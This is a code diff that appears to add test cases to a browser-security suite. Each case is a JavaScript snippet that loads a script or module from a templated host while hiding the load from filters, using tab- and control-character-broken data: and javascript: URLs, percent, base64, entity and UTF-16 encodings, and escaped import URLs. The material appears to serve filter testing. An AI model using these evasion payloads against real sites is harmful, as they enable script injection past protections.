@@ -669,4 +669,43 @@ export const again = group('again', [
         js(`var o={toString:()=>'url({{o}}/p.gif)'};document.body.animate(${frames},5000)`),
       ] as const,
   ),
+  // Frames and scripts whose texts are not spelt as most are.
+  ...Object.entries({
+    tab: `'da\\tta:text/html,'+D`,
+    control: `'\\u0001data:text/html,'+D`,
+    percent: `'data:text/html,<p>100%</p>'+D.replaceAll('/','%2f')`,
+    'base64-percent': `'data:text/html;base64,'+btoa(D+' '.repeat((4-D.length%3)%3)).replaceAll('=','%3D')`,
+    'base64-space': `'data:text/html; base64,'+btoa(D)`,
+    entities: `'data:text/html,'+D.replace('//','&sol;&sol;')`,
+    'utf-16': `'data:text/html;charset=utf-16le;base64,'+btoa([...D.replace('src','charset="utf-8" src')].map(c=>c+'\\0').join(''))`,
+  }).map(
+    ([id, at]) =>
+      [
+        `frame-data-${id}`,
+        'XR',
+        js(`var D='<script src="{{o}}/x.js"></scr'+'ipt>';${F}f.src=${at}`),
+      ] as const,
+  ),
+  [
+    'frame-data-markup-base64',
+    'XR',
+    `<div id="d"></div>${js(
+      `var D='<script src="{{o}}/x.js"></scr'+'ipt>';d.innerHTML='<iframe src="data:text/html;base64,'+btoa(D)+'"></iframe>'`,
+    )}`,
+  ],
+  ['frame-program-tab', 'XR', js(`${F}f.src='java\\tscript:void import("{{o}}/m.mjs"),1'`)],
+  [
+    'importmap-code',
+    'XR',
+    js(
+      `var m=document.createElement('script');m.type='importmap';m.textContent='{"imports":{"lib":"https:\\\\u002f\\\\u002f{{h}}/m.mjs"}}';document.head.append(m);${S}s.type='module';s.textContent="import 'lib'";document.head.append(s)`,
+    ),
+  ],
+  [
+    'module-code',
+    'XR',
+    js(
+      `${S}s.type='module';s.textContent='import "https:\\\\x2f\\\\x2f{{h}}/m.mjs"';document.head.append(s)`,
+    ),
+  ],
 ]);
